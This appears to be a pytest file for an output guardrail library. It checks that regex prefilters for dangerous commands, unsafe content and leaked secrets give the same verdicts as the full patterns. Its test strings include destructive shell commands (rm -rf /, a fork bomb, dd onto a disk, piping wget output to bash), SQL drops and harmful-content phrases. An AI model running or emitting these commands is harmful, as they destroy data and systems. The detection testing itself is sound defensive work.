"""The literal prefilters of the lexical output rules and of PII secrets skip only texts the patterns could
not match: the verdicts equal running every pattern, on the shared dev texts and on case tricks."""

from __future__ import annotations

import json
import re

import pytest
from tests.conftest import SHARED

from tollhouse.guardrails import pii
from tollhouse.guardrails.output import DANGEROUS, UNSAFE, Pattern, PatternGuard

TRICKS = [
    "DROP TABLE users;",
    "Drop   Database prod",
    "sudo RM -RF / now",
    "__\u0130MPORT__('os')",  # U+0130: IGNORECASE matches it to "i"
    "ExEc (payload)",
    "CHMOD -R 777 /srv",
    "dd if=/dev/zero of=/dev/sda",
    ":(){ :|:& };:",
    "WGET http://x | BASH",
    "OS.SYSTEM('ls')",
    "Truncate  Table logs",
    "You should KILL your\u017felf",  # U+017F long s: matches "s" under IGNORECASE, casefolds to "s"
    "how to build a PIPE BOMB",
    "I AM GOING TO STAB HIM",
    "porn with underage kids",
    "All those people should DIE",
    "KYS",
    "nothing to see here: table, drop, form, termination, schedule",
]


def _plain(patterns: dict[str, list[Pattern | str]]) -> dict[str, list[Pattern | str]]:
    """The same patterns without their literals: every regex runs."""
    return {k: [p.regex if isinstance(p, Pattern) else p for p in ps] for k, ps in patterns.items()}


def _texts() -> list[str]:
    texts = list(TRICKS)
    for name in ("injection", "moderation"):
        path = SHARED / "datasets" / name / "dev.jsonl"
        if path.is_file():
            for line in path.read_text(encoding="utf-8").split("\n"):
                if not line.strip():
                    continue
                row = json.loads(line)
                texts.append(str(row.get("text") or row.get("prompt") or ""))
    return texts


@pytest.mark.parametrize(
    "patterns", [{"dangerous command": DANGEROUS}, UNSAFE], ids=["dangerous_commands", "unsafe_content"]
)
def test_prefiltered_verdicts_equal_running_every_pattern(patterns: dict[str, list[Pattern | str]]) -> None:
    fast = PatternGuard("x", "enforce", patterns, frozenset({"output"}))
    full = PatternGuard("x", "enforce", _plain(patterns), frozenset({"output"}))
    texts = _texts()
    hits = 0
    for t in texts:
        assert fast.find(t) == full.find(t), t[:200]
        hits += full.find(t) is not None
    assert hits >= 10  # the corpus exercises the patterns, not only their absence


def test_every_literal_is_one_its_regex_requires() -> None:
    for p in [*DANGEROUS, *(q for ps in UNSAFE.values() for q in ps)]:
        assert isinstance(p, Pattern) and p.needs
        for group in p.needs:
            assert group and all(k == k.casefold() for k in group), p.regex


def test_secret_prefilter_keeps_every_secret() -> None:
    samples = [
        "key sk-proj-" + "a" * 30,
        "AKIA" + "ABCDEFGHIJKLMNOP",
        "ghp_" + "a" * 36,
        "xoxb-" + "1" * 12,
        "AIza" + "b" * 35,
        "eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeK",
        "-----BEGIN RSA PRIVATE KEY-----",
    ]
    for s in samples:
        assert [x.entity for x in pii.detect(f"here: {s} end")] == ["SECRET"], s
    pem = (
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7\n"
        "-----END PRIVATE KEY-----"
    )
    spans = pii.detect(f"my key:\n{pem}\nthanks")
    assert [(x.entity, x.end - x.start) for x in spans] == [("SECRET", len(pem))]  # header to footer
    for t in _texts()[:2000]:
        assert bool(pii._SECRET.search(t)) <= pii._may_hold_secret(t)
        assert pii._has_digit(t) == bool(re.search(r"\d", t))
